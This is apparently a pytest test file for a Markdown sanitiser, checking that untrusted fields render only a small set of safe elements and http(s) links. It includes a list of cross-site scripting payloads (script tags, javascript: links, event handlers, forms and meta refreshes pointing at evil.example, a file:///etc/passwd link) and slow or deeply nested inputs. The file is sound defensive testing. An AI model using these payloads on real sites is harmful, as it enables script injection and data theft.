"""Markdown from strangers: whatever a field says, the page gets these few elements and links to the web."""

import time
from urllib.parse import urlsplit

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markupsafe import Markup
from pydantic_core import PydanticCustomError

from generator.render import prose
from generator.spec.fields import MOST_CHARACTERS
from generator.spec.fields import prose as field

BLOCK = {"p", "em", "strong", "code", "ul", "ol", "li", "br", "a", "blockquote", "span"}
INLINE = {"em", "strong", "code", "br", "a", "span"}

ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script across lines": "<scr\nipt>alert(1)</scr\nipt>",
    "script in a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "link to script": "[x](javascript:alert(1))",
    "link to script, spelt with entities": "[x](&#106;avascript:alert(1))",
    "link to script with a tab": '<a href="java\tscript:alert(1)">x</a>',
    "link to script behind a control": '<a href="\x01javascript:alert(1)">x</a>',
    "link to script in capitals": "[x](JaVaScRiPt:alert(1))",
    "vbscript": "[x](vbscript:msgbox)",
    "data": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "file": "[x](file:///etc/passwd)",
    "link to a neighbour": "[x](other.html)",
    "link to a part of the page": "[x](#task-1)",
    "link without a scheme": "[x](//evil.example/)",
    "link by reference": "[x][y]\n\n[y]: javascript:alert(1)",
    "automatic link": "<javascript:alert(1)>",
    "mail": "<someone@example.org>",
    "image": "![alt](https://evil.example/pixel.png)",
    "image element": '<img src="x" onerror="alert(1)">',
    "image that is broken off": '<img src="x" onerror=alert(1)//',
    "event": '<a href="https://example.org" onclick="alert(1)">x</a>',
    "event in a passage": '<span lang="de" onclick="alert(1)">x</span>',
    "language that is none": '<span lang="de&quot; onclick=&quot;alert(1)">x</span>',
    "event in Markdown": "# x {: onclick=alert(1) }",
    "attribute out of a title": '[x](https://example.org "a\\" onmouseover=\\"alert(1)")',
    "attribute out of an address": '[x](https://example.org/"onmouseover="alert(1))',
    "style element": "<style>body{display:none}</style>",
    "style attribute": '<p style="position:fixed">x</p>',
    "class and id": '<p class="key" id="task-1">x</p>',
    "frame": '<iframe src="https://evil.example"></iframe>',
    "object": '<object data="x"></object><embed src="x">',
    "form": '<form action="https://evil.example"><input name="q"><button>go</button></form>',
    "details": "<details open ontoggle=alert(1)><summary>Answers</summary>B</details>",
    "drawing": '<svg onload="alert(1)"><script>alert(1)</script><use href="#x"/></svg>',
    "mathematics": '<math><mtext></p><style><img src=x onerror="alert(1)"></style></mtext></math>',
    "template": "<template><script>alert(1)</script></template>",
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">',
    "link element": '<link rel="attachment" href="file:///etc/passwd">',
    "end of the page": "</div></article></main></body></html><h1>x</h1>",
    "comment": "<!-- x --><!--[if IE]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "instruction": "<?php echo 1 ?>",
    "text that changes as it is parsed": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "raw HTML block": '<div markdown="1" onclick="x">\n\n*a*\n\n</div>',
    "table": '<table><tr><td colspan="1000000">x</td></tr></table>',
    "code": "    <script>alert(1)</script>\n\n`<img src=x>`",
    "forged placeholder": "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 \x02amp\x03 <b>x</b>",
    "control characters": "a\x00b\x1b[31mc\x7fd\x08",
    "turned text": "a\u202eb\u2066c",
}


def walked(markup: str, allowed: set[str]) -> str:
    """Parse `markup` as a browser does and hold every element against `allowed`; what it says as text."""
    tree = html5lib.parseFragment(markup, treebuilder="etree", namespaceHTMLElements=False)
    for element in list(tree.iter())[1:]:
        assert element.tag in allowed, element.tag
        assert set(element.attrib) <= {"a": {"href", "rel"}, "span": {"lang"}}.get(element.tag, set())
        assert element.attrib.get("lang", "").replace("-", "").isalnum() or "lang" not in element.attrib
        if "href" in element.attrib:
            address = urlsplit(element.attrib["href"])
            assert address.scheme in {"http", "https"}
            assert address.netloc
            assert element.attrib["rel"] == "noopener noreferrer"
    return "".join(tree.itertext())


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS)
def test_nothing_in_a_field_can_act_on_the_page(text: str) -> None:
    assert isinstance(prose.block(text), Markup)
    for said in (walked(prose.block(text), BLOCK), walked(prose.inline(text), INLINE)):
        assert not {"\x02", "\x03"} & set(said)


@given(
    st.lists(
        st.sampled_from([*ATTACKS.values(), "\n\n", " ", "- ", "> ", "*", "`", "[", "](", '"', "<", "word"])
    ).map("".join)
)
@settings(max_examples=100, deadline=None)
def test_nor_can_pieces_of_attacks_put_together(text: str) -> None:
    walked(prose.block(text), BLOCK)
    walked(prose.inline(text), INLINE)


def test_emphasis_lists_and_links_are_printed() -> None:
    assert prose.block("*one* **two**\n\n- three\n- [four](https://example.org/?a=1&b=2)") == (
        "<p><em>one</em> <strong>two</strong></p>\n<ul>\n<li>three</li>\n"
        '<li><a href="https://example.org/?a=1&amp;b=2" rel="noopener noreferrer">four</a></li>\n</ul>'
    )
    assert prose.inline("a *word*") == "a <em>word</em>"


def test_a_passage_in_another_language_says_so() -> None:
    assert prose.inline('a <span lang="pt-BR">*palavra*</span>') == (
        'a <span lang="pt-BR"><em>palavra</em></span>'
    )


def test_signs_are_printed_as_they_are() -> None:
    assert prose.inline("3 < 4 & 5 > 2, “so”") == "3 &lt; 4 &amp; 5 &gt; 2, “so”"


def test_no_text_makes_no_paragraph() -> None:
    assert (prose.block(""), prose.block(" \n"), prose.inline("")) == ("", "", "")


@pytest.mark.parametrize("text", ["- one", "* one", "12. one", "> said", "one\n\ntwo", "# one", ""])
def test_lists_and_paragraphs_do_not_run_on_in_a_line(text: str) -> None:
    assert not prose.is_plain(text)


@pytest.mark.parametrize("text", [" One *sentence*. ", "*One* sentence.", "**One** sentence.", "1.5 litres"])
def test_a_sentence_runs_on_in_a_line(text: str) -> None:
    assert prose.is_plain(text)


DEEP = {
    "lists": "\n".join("    " * depth + "- a" for depth in range(150)),
    "quotes": ">" * 3000 + " a",
    "elements": "<em>" * 3000 + "a",
    "blocks": "<div>\n" * 2000 + "a",
}


@pytest.mark.parametrize("text", DEEP.values(), ids=DEEP)
def test_a_text_that_is_nested_too_deep_is_still_printed(text: str) -> None:
    assert "a" in walked(prose.block(text), BLOCK)


def test_a_text_that_is_nested_too_deep_harms_no_text_after_it() -> None:
    before = prose.block("one\n\ntwo")
    prose.block(DEEP["lists"] * 3)
    prose.block("\n".join("    " * depth + "- a" for depth in range(400)))
    assert prose.block("one\n\ntwo") == before == "<p>one</p>\n<p>two</p>"


SLOW = {
    "brackets": "[[[[[[[[ " * 50,
    "addresses never closed": "[a](" * 400,
    "stars": "*a " * 400,
    "stars in pairs": "**a*" * 133,
    "ticks": "`" * 400,
    "ticks of all lengths": "a".join("`" * length for length in range(1, 28)),
    "quotes": (">" * 20 + " a\n") * 900,
    "lists": "- a\n" * MOST_CHARACTERS,
    "steps": "\n".join(" " * (step % 37) + "- a" for step in range(900)),
    "underlines": "a\n=\n" * MOST_CHARACTERS,
    "spaces": "[a](b" + " " * MOST_CHARACTERS,
    "entities": "&#" * MOST_CHARACTERS,
    "elements": "<p>" * 400,
    "comments": "<!--" * 400,
}


@pytest.mark.parametrize("text", SLOW.values(), ids=SLOW)
def test_no_text_that_a_field_takes_keeps_a_build_waiting(text: str) -> None:
    text = field(text[:MOST_CHARACTERS].strip())
    started = time.process_time()
    prose.block(text)
    assert time.process_time() - started < 5


@pytest.mark.parametrize("sign", list("[<`*_"))
def test_signs_for_markdown_beyond_all_use_are_refused(sign: str) -> None:
    """A page of thousands of elements within one word takes minutes to set."""
    field(f"a{sign}" * 400)
    with pytest.raises(PydanticCustomError):
        field(f"a{sign}" * 401)
